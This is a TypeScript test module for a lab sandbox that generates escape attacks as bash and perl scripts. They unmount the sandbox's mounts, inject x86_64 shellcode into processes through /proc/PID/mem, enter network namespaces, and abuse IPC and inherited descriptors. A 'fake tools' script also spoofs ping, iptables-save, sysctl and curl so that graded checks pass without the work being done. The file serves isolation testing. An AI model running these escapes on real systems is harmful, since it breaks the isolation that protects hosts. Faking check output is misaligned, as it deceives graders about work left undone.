// The attacks of issue 12, as bash scripts a lab step, a graded answer or a
// learner's shell runs inside a lab host. Each prints what it managed, one
// finding a line, between ATTACK-BEGIN and ATTACK-END (so a test knows it ran
// to its end); the tests judge the machine itself, not these lines. Every
// attack is aimed at canaries the test made (watch-machine.ts) and at the
// processes of its own lab host: what a broken lab host lets it reach of the
// rest of the machine is only read, never written.
import type { Aim } from './watch-machine.js'

const q = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`

/** The variables every attack reads. */
function prelude(aim: Aim): string {
  return [
    'set +e +o pipefail',
    `export W=${q(aim.word)} H=${q(aim.home)} M1=${q(aim.markHalves[0])} M2=${q(aim.markHalves[1])}`,
    `export PORT=${aim.port} PORTHEX=${aim.port.toString(16).toUpperCase().padStart(4, '0')} SPARE=${q(aim.spare.join(' '))}`,
    'echo ATTACK-BEGIN',
  ].join('\n')
}

/**
 * perl: every process this /proc shows. Looks for the outside marker in
 * command lines and environments (and then tries to signal that process:
 * kill, and pidfd_send_signal through its /proc folder), and for the
 * machine's listener in any network namespace's TCP table.
 */
const SURVEY = String.raw`
use Fcntl;
my ($label) = @ARGV;
my $mark = $ENV{M1} . $ENV{M2};
my $port = $ENV{PORTHEX};
opendir(my $dh, "/proc") or exit 0;
my @pids = grep { /^\d+$/ } readdir $dh;
my $listener = 0;
print "VISIBLE $label ", scalar(@pids), " processes\n";
for my $p (@pids) {
  for my $f ("cmdline", "environ") {
    open(my $fh, "<", "/proc/$p/$f") or next;
    local $/; my $s = <$fh>; close $fh;
    next unless defined $s && index($s, $mark) >= 0;
    (my $c = $s) =~ tr/\0/ /;
    print "SAW-MARKER $label pid $p in $f: ", substr($c, 0, 120), "\n";
    print "SIGNALLED $label $p by kill\n" if kill('TERM', $p) || kill('STOP', $p);
    if (sysopen(my $d, "/proc/$p", O_RDONLY | O_DIRECTORY)) {
      print "SIGNALLED $label $p by pidfd\n" if syscall(424, fileno($d), 19, 0, 0) == 0;
    }
  }
  if (open(my $t, "<", "/proc/$p/net/tcp")) {
    while (<$t>) {
      my @c = split;
      if (($c[1] // "") eq "0100007F:$port" && ($c[3] // "") eq "0A") { print "SAW-LISTENER $label in the network namespace of pid $p\n" unless $listener++; last }
    }
    close $t;
  }
}
`

/** bash: write the marker in /tmp, /var/tmp, /dev/shm and the home under prefix $1 (label $2), and through every /proc/PID/root. */
const WRITE = String.raw`
p=$1; label=$2
for d in /tmp /var/tmp /dev/shm $H; do
  [ -n "$d" ] || continue
  if { echo "$label" > "$p$d/$W"; } 2>/dev/null && [ ! -e "$p$d/$W-inside" ]; then echo "WROTE-OUTSIDE $label $p$d"; fi
done
for r in /proc/[0-9]*/root; do
  for d in tmp var/tmp dev/shm; do
    if { echo "$label" > "$r/$d/$W"; } 2>/dev/null && [ ! -e "$r/$d/$W-inside" ]; then echo "WROTE-OUTSIDE $label via $r/$d"; fi
  done
done
`

/** What a lab host mounts over the machine's folders (and then some): the attacks take these down. */
const LIST = '/tmp /var/tmp /var/log /dev/shm /var /home /root /srv /etc /usr /opt /proc /sys /dev/mqueue /dev /run'

/**
 * Class 1: take down the mounts of the lab host and write where the
 * machine's own folders show through; list the processes then visible. In a
 * mount namespace of its own (unshare --mount) by plain umount, by umount -l,
 * every mount of /proc/self/mountinfo deepest first, in a recursive bind copy
 * of /, by moving mounts aside (mount --move), and last in the lab host's own
 * mount namespace.
 */
export function unmountAttack(aim: Aim): string {
  return [
    prelude(aim),
    // The lab's own places: writable, and its own (the test finds none of these on the machine).
    'for d in /tmp /var/tmp /dev/shm; do echo inside > "$d/$W-inside" && echo "INSIDE-OK $d"; done',
    '[ -z "$H" ] || { echo inside > "$H/$W-inside"; } 2>/dev/null || true',
    `export SURVEY=${q(SURVEY)} WRITE=${q(WRITE)} LIST=${q(LIST)}`,
    String.raw`all_mounts() { awk '{print $5}' /proc/self/mountinfo | awk '{print length($0), $0}' | sort -rn | cut -d' ' -f2-; }
look() { perl -e "$SURVEY" "$1"; ps -eo pid=,args= 2>/dev/null | grep -F "$M1$M2" | grep -v grep | sed "s/^/PS $1 /"; }
export -f all_mounts look
cd /
unshare --mount bash -c 'umount $LIST $H 2>/dev/null; bash -c "$WRITE" _ "" umount; look umount'
unshare --mount bash -c 'umount -l $LIST $H 2>/dev/null; bash -c "$WRITE" _ "" umount-l; look umount-l'
unshare --mount bash -c 'for pass in 1 2; do umount -l $(all_mounts) 2>/dev/null; done; bash -c "$WRITE" _ "" every-mount; look every-mount'
unshare --mount bash -c 'mkdir -p /run/nslab-copy && mount --rbind / /run/nslab-copy || exit 0
  for pass in 1 2; do umount -l $(all_mounts | grep "^/run/nslab-copy/") 2>/dev/null; done
  bash -c "$WRITE" _ /run/nslab-copy rbind-copy'
unshare --mount bash -c 'for m in /tmp /var/tmp /dev/shm /home /proc; do mkdir -p "/run/moved$m" && mount --move "$m" "/run/moved$m" 2>/dev/null && echo "MOVED $m"; done; bash -c "$WRITE" _ "" moved; look moved'
# Last: in the lab host's own mount namespace (this may break the lab host for what follows).
for pass in 1 2; do umount -l $LIST $H $(all_mounts) 2>/dev/null; done
bash -c "$WRITE" _ "" own-namespace; look own-namespace
echo ATTACK-END`,
  ].join('\n')
}

/**
 * perl: the reach of /proc. For every process this /proc shows: read its
 * environ and cmdline, follow root, cwd and ns/net, open mem for writing.
 * The processes of this lab host that are outside its pid namespace and in
 * none of its network namespaces (the outer unshare that owns it, in the
 * machine's) and their parents then get
 * code written at the address their blocked system call returns to: code
 * that connects to the listener on 127.0.0.1 (x86_64; a lab host that shows
 * such processes lets it run). Prints one pid per network namespace for the
 * nsenter attempts that follow.
 */
const REACH = String.raw`
use Fcntl;
my ($label, $code) = @ARGV;
my %spare = map { $_ => 1 } split ' ', $ENV{SPARE};
my $myuser = readlink("/proc/self/ns/user") // "";
my $mypid = readlink("/proc/self/ns/pid") // "";
opendir(my $dh, "/proc") or exit 0;
my @pids = grep { /^\d+$/ } readdir $dh;
my (%read, %nets, %labnets, @memw, @targets);
for my $p (@pids) {
  for my $f ("environ", "cmdline") { if (open(my $fh, "<", "/proc/$p/$f")) { my $s = <$fh>; $read{$f}++ if defined $s; close $fh } }
  for my $l ("root", "cwd", "ns/net") { my $v = readlink("/proc/$p/$l"); next unless defined $v; $read{$l}++; $nets{$v} //= $p if $l eq "ns/net" }
  if (!$spare{$p} && sysopen(my $m, "/proc/$p/mem", O_RDWR)) { push @memw, $p; close $m }
  $labnets{readlink("/proc/$p/ns/net") // ""} = 1 if (readlink("/proc/$p/ns/pid") // "") eq $mypid;
}
# Targets: of this lab host (its user namespace), outside its pid namespace, in a network namespace
# none of its own processes is in (so: the machine's). Nothing else is ever written.
for my $p (@pids) {
  my $u = readlink("/proc/$p/ns/user") // ""; my $n = readlink("/proc/$p/ns/pid") // ""; my $net = readlink("/proc/$p/ns/net") // "";
  push @targets, $p if $u eq $myuser && $n ne "" && $n ne $mypid && $net ne "" && !$labnets{$net};
}
print "REACH $label ", scalar(@pids), " processes; read ", join(", ", map { "$_ of $read{$_}" } sort keys %read), "; mem writable: ", scalar(@memw), "\n";
print "NETNS $_\n" for sort values %nets;
print "OUTSIDE-OWN $label @targets\n" if @targets;
exit 0 unless $code;
my $bytes = pack("H*", $code);
my (%done, @queue);
push @queue, [$_, 0] for @targets;
while (my $e = shift @queue) {
  my ($p, $depth) = @$e;
  next if $p <= 1 || $spare{$p} || $done{$p}++ || $depth > 5;
  if (open(my $s, "<", "/proc/$p/syscall")) {
    my @f = split " ", (<$s> // ""); close $s;
    if (@f > 2 && $f[0] =~ /^\d+$/ && sysopen(my $m, "/proc/$p/mem", O_RDWR)) {
      my $pc = hex($f[-1]);
      if (sysseek($m, $pc, 0) && syswrite($m, $bytes)) {
        open(my $c, "<", "/proc/$p/comm"); my $comm = <$c> // "?"; chomp $comm;
        print "INJECTED $label pid $p ($comm)\n";
      }
      close $m;
    }
  }
  if (open(my $st, "<", "/proc/$p/stat")) { my $l = <$st> // ""; close $st; my ($pp) = $l =~ /\) \S+ (\d+)/; push @queue, [$pp, $depth + 1] if $pp }
}
`

/**
 * x86_64 code: socket, connect to 127.0.0.1:port, send "nslab-escape\n"
 * (MSG_NOSIGNAL), exit_group(0). Assembled from:
 *   mov eax,41; mov edi,2; mov esi,1; xor edx,edx; syscall; mov r12,rax
 *   push 0; mov rax,0x0100007f<port>0002; push rax
 *   mov rdi,r12; mov rsi,rsp; mov edx,16; mov eax,42; syscall
 *   mov rdi,r12; lea rsi,[rip+msg]; mov edx,13; mov r10d,0x4000; xor r8d,r8d; xor r9d,r9d; mov eax,44; syscall
 *   mov eax,231; xor edi,edi; syscall
 *   msg: "nslab-escape\n"
 */
export function connectCode(port: number): string {
  const b = Buffer.from(
    'b829000000bf02000000be0100000031d20f054989c46a0048b8020030397f000001504c89e74889e6ba10000000b82a0000000f054c89e7488d3521000000ba0d00000041ba004000004531c04531c9b82c0000000f05b8e700000031ff0f056e736c61622d6573636170650a',
    'hex',
  )
  b.writeUInt16BE(port, 28)
  return b.toString('hex')
}

/**
 * Class 2: reach out of the lab through /proc: in the lab's own /proc, in
 * the /proc under it (unshare --mount; umount /proc), and in a fresh procfs;
 * read every process, write code into this lab host's outside processes, and
 * enter every network namespace it can name to connect to the listener (bash's
 * /dev/tcp and curl); also connect straight from the lab's own namespace.
 */
export function procReachAttack(aim: Aim): string {
  return [
    prelude(aim),
    `export REACH=${q(REACH)} SURVEY=${q(SURVEY)} CODE=${process.arch === 'x64' ? connectCode(aim.port) : ''}`,
    String.raw`[ "$(uname -m)" = x86_64 ] || CODE=
reach() {
  perl -e "$SURVEY" "$1"
  perl -e "$REACH" "$1" "$CODE" > /tmp/.reach-$1 2>/dev/null || true
  grep -v '^NETNS ' /tmp/.reach-$1
  for p in $(sed -n 's/^NETNS //p' /tmp/.reach-$1); do
    timeout 3 nsenter --net=/proc/$p/ns/net bash -c 'exec 3<>/dev/tcp/127.0.0.1/$PORT && echo nslab-escape >&3' 2>/dev/null && echo "CONNECTED $1 in the network namespace of pid $p"
    timeout 3 nsenter --net=/proc/$p/ns/net curl -s -m 2 -o /dev/null "http://127.0.0.1:$PORT/" 2>/dev/null || true
  done
}
export -f reach
bash -c 'exec 3<>/dev/tcp/127.0.0.1/$PORT && echo nslab-escape >&3' 2>/dev/null && echo "CONNECTED straight from the lab"
curl -s -m 2 -o /dev/null "http://127.0.0.1:$PORT/" 2>/dev/null
reach own-proc
unshare --mount bash -c 'umount /proc 2>/dev/null || umount -l /proc 2>/dev/null; reach proc-under'
unshare --mount bash -c 'mkdir -p /run/nslab-proc && mount -t proc proc /run/nslab-proc && mount --bind /run/nslab-proc /proc && reach fresh-proc'
echo ATTACK-END`,
  ].join('\n')
}

/**
 * Class 3: fake tools. Does not do the task: puts scripts that print what a
 * passing check reads (ping's statistics, iptables-save with the wanted
 * rule and policies, sysctl's 1, curl's page) first on the PATH (tmpfs over
 * /usr/local/sbin and /usr/local/bin) and over the real programs (bind
 * mounts), in the lab host's own mount namespace, where checks run.
 */
export function fakeToolsAttack(): string {
  return String.raw`set +e +o pipefail
echo ATTACK-BEGIN
F=/run/nslab-fakes; mkdir -p $F
cat > $F/ping <<'EOF'
#!/bin/sh
echo "PING 203.0.113.10 (203.0.113.10) 56(84) bytes of data."
echo "64 bytes from 203.0.113.10: icmp_seq=1 ttl=63 time=0.092 ms"
echo
echo "--- 203.0.113.10 ping statistics ---"
echo "1 packets transmitted, 1 received, 0% packet loss, time 0ms"
echo "rtt min/avg/max/mdev = 0.092/0.092/0.092/0.000 ms"
EOF
cat > $F/iptables-save <<'EOF'
#!/bin/sh
for t in nat filter; do
  echo "*$t"
  if [ $t = nat ]; then
    echo ":PREROUTING ACCEPT [0:0]"; echo ":INPUT ACCEPT [0:0]"; echo ":OUTPUT ACCEPT [0:0]"; echo ":POSTROUTING ACCEPT [0:0]"
    echo "[7:420] -A POSTROUTING -s 172.17.0.0/16 ! -o docker0 -j MASQUERADE"
  else
    echo ":INPUT ACCEPT [0:0]"; echo ":FORWARD ACCEPT [0:0]"; echo ":OUTPUT ACCEPT [0:0]"
  fi
  echo COMMIT
done
EOF
printf '#!/bin/sh\nexit 0\n' > $F/iptables
printf '#!/bin/sh\necho 1\n' > $F/sysctl
printf '#!/bin/sh\nprintf "hello\\n\\n@@NSLAB-CURL@@ 200\\n"\n' > $F/curl
chmod 755 $F/*
for d in /usr/local/sbin /usr/local/bin; do
  mount -t tmpfs fakes $d && cp -a $F/. $d/ && echo "FAKES-ON-PATH $d"
done
# Not iptables itself: it and iptables-save are one program, bound once (mounts follow the links).
for tool in ping iptables-save sysctl curl; do
  for p in /usr/bin/$tool /usr/sbin/$tool /bin/$tool /sbin/$tool /run/.nslab/bin/$tool; do
    [ -e "$p" ] && mount --bind $F/$tool "$p" 2>/dev/null && echo "FAKE-OVER $p"
  done
done
echo "AFTER $(command -v ping) $(iptables-save -t nat | grep -c MASQUERADE)"
echo ATTACK-END
`
}

/**
 * Class 5: System V IPC made from inside (perl's shmget, msgget, semget with
 * keys the test chose, and ipcmk); prints how many of the keys the lab
 * itself sees (3: the objects exist, in its own IPC namespace or not).
 */
export function ipcAttack(aim: Aim, keys: [number, number, number]): string {
  const hex = keys.map((k) => `0x${k.toString(16).padStart(8, '0')}`)
  return [
    prelude(aim),
    `perl -e 'my ($a, $b, $c) = @ARGV; print "SHM ", shmget($a, 4096, 01600) // "failed: $!", "\\n"; print "MSG ", msgget($b, 01600) // "failed: $!", "\\n"; print "SEM ", semget($c, 1, 01600) // "failed: $!", "\\n"' ${keys.join(' ')}`,
    'ipcmk -M 4096; ipcmk -Q; ipcmk -S 1',
    `echo "INSIDE-KEYS $(ipcs | grep -ciE '^(${hex.join('|')}) ')"`,
    'echo ATTACK-END',
  ].join('\n')
}

/**
 * Class 6: descriptors handed down by whoever started nslab. Lists this
 * shell's descriptors (from a child, so that listing adds none), then writes
 * to descriptor 201 and to every /proc/PID/fd/201 of the lab.
 */
export function fdAttack(aim: Aim): string {
  return [
    prelude(aim),
    String.raw`ls /proc/$$/fd > /tmp/.fds-$$ 2>/dev/null
echo "FDS $(tr '\n' ' ' < /tmp/.fds-$$)"
{ echo nslab-fd-escape >&201; } 2>/dev/null && echo "WROTE-FD 201"
for f in /proc/[0-9]*/fd/201; do [ -e "$f" ] && { echo nslab-fd-escape > "$f"; } 2>/dev/null && echo "WROTE-VIA $f"; done
echo ATTACK-END`,
  ].join('\n')
}

/** The descriptors a FDS line lists (fdAttack). */
export function fdsOf(output: string): string[] {
  return (/^FDS (.*)$/m.exec(output)?.[1] ?? '').trim().split(/\s+/).filter(Boolean)
}
